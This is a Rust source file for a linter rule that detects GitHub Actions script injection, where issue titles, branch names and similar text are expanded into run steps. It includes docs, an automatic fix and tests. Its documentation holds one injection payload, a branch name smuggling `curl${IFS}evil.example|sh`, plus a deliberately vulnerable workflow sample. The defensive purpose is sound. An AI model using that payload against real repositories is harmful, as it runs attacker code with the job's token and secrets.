//! `workflow-injection`: text of strangers becomes part of a script.

use crate::analysis::{Shell, Workflow};
use crate::rule::{Check, Finding, Rule};
use crate::untrusted::{Source, Variables, source_of};
use crate::{Fix, Severity};
use bulkhead_config::value::Node;
use bulkhead_config::workflow::{Step, expressions};
use bulkhead_config::yaml;
use bulkhead_shell::{Part, PartKind, Word};
use bulkhead_text::{Edit, Span};
use std::collections::HashSet;

pub(super) const RULE: Rule = Rule {
    id: "workflow-injection",
    severity: Severity::Error,
    checklist: None,
    summary: "Text that anybody may write is expanded inside a script of the workflow.",
    docs: DOCS,
    checks: &[Check::Workflow(check)],
};

const DOCS: &str = r#"
## Why it matters

GitHub puts the value of `${{ … }}` into the script before a shell reads it: the title of an issue is then program text,
and no quotes around the expression keep it out. The same holds for `actions/github-script`, and for `${{ env.NAME }}`
where the variable holds such a text. An environment variable that the shell itself expands, `"$TITLE"`, stays data.

Titles, bodies, comments, names of branches, commit messages and the names and addresses of authors are all written by
others.

## What an attacker does

They open a pull request from a branch named `a";curl${IFS}evil.example|sh;"`. The step that greets new contributors runs
it, with the token and the secrets of the job.

## Bad

```yaml workflow bad
on: issues
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
```

## Good

```yaml workflow good
on: issues
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: echo "New issue $ISSUE_TITLE"
```

## Reference

[GitHub: script injections](https://docs.github.com/en/actions/concepts/security/script-injections) and
[untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
"#;

/// For how many expressions of a step a fix is worked out; the others get theirs when these are gone.
const MAX_FIXES: usize = 20;

fn check(workflow: &Workflow<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut seen = HashSet::new();
    let of_workflow = Variables::of(&workflow.model.env);
    for (job_number, job) in workflow.model.jobs.iter().enumerate() {
        let of_job = Variables::of(&job.env);
        for (number, step) in job.steps.iter().enumerate() {
            let of_step = Variables::of(&step.env);
            let place = Place { workflow, step, shell: workflow.script_of(job_number, number) };
            let is_script = step.action().is_some_and(|action| action.is("actions/github-script"));
            let script = step.inputs.iter().find(|entry| is_script && entry.key.value == "script");
            let texts = step.run.iter().chain(script).map(|entry| &entry.value);
            for text in texts.filter(|text| seen.insert(text.span)) {
                findings.extend(place.findings(text, [&of_step, &of_job, &of_workflow]));
            }
        }
    }
    findings
}

struct Place<'w> {
    workflow: &'w Workflow<'w>,
    step: &'w Step,
    shell: Option<&'w Shell>,
}

impl Place<'_> {
    fn findings(&self, text: &Node, variables: [&Variables<'_>; 3]) -> Vec<Finding> {
        let Some(mapped) = yaml::mapped(text, self.workflow.source) else { return Vec::new() };
        let mut findings = Vec::new();
        for expression in expressions(mapped.text.text()) {
            let source = expression.contexts.iter().find_map(|context| source_of(context, variables));
            let Some(source) = source else { continue };
            let span = mapped.text.source_span(expression.span);
            let message = format!("{} gets into the script as program text", source.words());
            let help =
                "Give it to the step as a variable in `env`, and let the script expand that: `\"$NAME\"`.";
            let fix = if findings.len() < MAX_FIXES { self.fix(span, &source) } else { None };
            findings.push(Finding::new(span, message, help).fix(fix));
        }
        findings
    }

    /// A variable in `env` for an expression in a script for a shell, where the shell would expand it.
    fn fix(&self, span: Span, source: &Source) -> Option<Fix> {
        let shell = self.shell.filter(|shell| shell.is_verbatim)?;
        let quoted = part_at(shell, span)?.quoted;
        let name = source.variable();
        let text = if quoted { format!("${{{name}}}") } else { format!("\"${name}\"") };
        let mut edits = vec![Edit::replace(span, text)];
        let expression = span.of(self.workflow.source);
        match self.step.env.iter().find(|entry| entry.key.value == name) {
            _ if source.is_variable() => {}
            Some(known) if known.value.span.of(self.workflow.source) == expression => {}
            Some(_) => return None,
            None => edits.push(self.declare(&name, expression)?),
        }
        Some(Fix::suggested(format!("Use the variable `{name}`"), edits))
    }

    fn declare(&self, name: &str, expression: &str) -> Option<Edit> {
        let entry = format!("{name}: {expression}");
        match self.step.env.first() {
            Some(first) => self.workflow.insert_before(first.key.span, &[entry]),
            None => {
                let run = self.step.run.as_ref()?;
                self.workflow.insert_before(run.key.span, &["env:".to_owned(), format!("  {entry}")])
            }
        }
    }
}

/// The part of a word that an expression is.
fn part_at(shell: &Shell, span: Span) -> Option<&Part> {
    let is_here = |part: &&Part| part.span == span && matches!(part.kind, PartKind::Parameter { .. });
    let within = |word: &&Word| word.span.contains(span);
    shell.script.simple_commands().into_iter().filter(|found| found.simple.span.contains(span)).find_map(
        |found| {
            let assigned = found.simple.assignments.iter().map(|assigned| &assigned.value);
            let mut words = found.simple.words.iter().chain(assigned).filter(within);
            words.find_map(|word| word.parts.iter().find(is_here))
        },
    )
}

#[cfg(test)]
mod tests {
    use crate::testing::{findings, fixed, spans};

    const PATH: &str = ".github/workflows/x.yml";
    const RULE: &str = "workflow-injection";

    fn step(step: &str) -> String {
        format!(
            "on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - {step}\n"
        )
    }

    #[test]
    fn fixes_keep_quotes_and_blocks() {
        for (before, after) in [
            (
                "run: |\n          a ${{ github.head_ref }}\n          b",
                "env:\n          HEAD_REF: ${{ github.head_ref }}\n        run: |\n          a \"$HEAD_REF\"\n          b",
            ),
            (
                "env:\n          X: y\n        run: a \"x ${{ github.event.comment.body }}y\"",
                "env:\n          COMMENT_BODY: ${{ github.event.comment.body }}\n          X: y\n        run: a \"x ${COMMENT_BODY}y\"",
            ),
            (
                "env:\n          X: ${{ github.head_ref }}\n        run: a ${{ env.X }}",
                "env:\n          X: ${{ github.head_ref }}\n        run: a \"$X\"",
            ),
        ] {
            assert_eq!(fixed(RULE, PATH, &step(before)), step(after), "{before}");
        }
    }

    #[test]
    fn where_no_shell_would_expand_it_there_is_no_fix() {
        for source in [
            step("run: echo '${{ github.head_ref }}'"),
            step("run: >\n          a\n          ${{ github.head_ref }}"),
            step("shell: pwsh\n        run: a ${{ github.head_ref }}"),
            step(
                "uses: actions/github-script@v8\n        with:\n          script: f('${{ github.event.issue.body }}')",
            ),
        ] {
            let found = findings(RULE, PATH, &source);
            assert!(found.len() == 1 && found[0].fix.is_none(), "{source}");
            assert!(found[0].span.of(&source).starts_with("${{"), "{source}");
        }
    }

    #[test]
    fn what_strangers_do_not_write_is_left_alone() {
        for text in [
            "run: a ${{ github.sha }} ${{ github.event.number }} ${{ inputs.x }} ${{ github.event.pull_request.head.sha }}",
            "run: a ${{ contains(github.event.head_commit.message, 'x') }} ${{ github.head_ref == 'y' }}",
            "uses: a/b@v1\n        with:\n          title: ${{ github.event.issue.title }}",
            "if: github.head_ref == 'x'\n        run: a",
        ] {
            assert!(spans(RULE, PATH, &step(text)).is_empty(), "{text}");
        }
    }
}
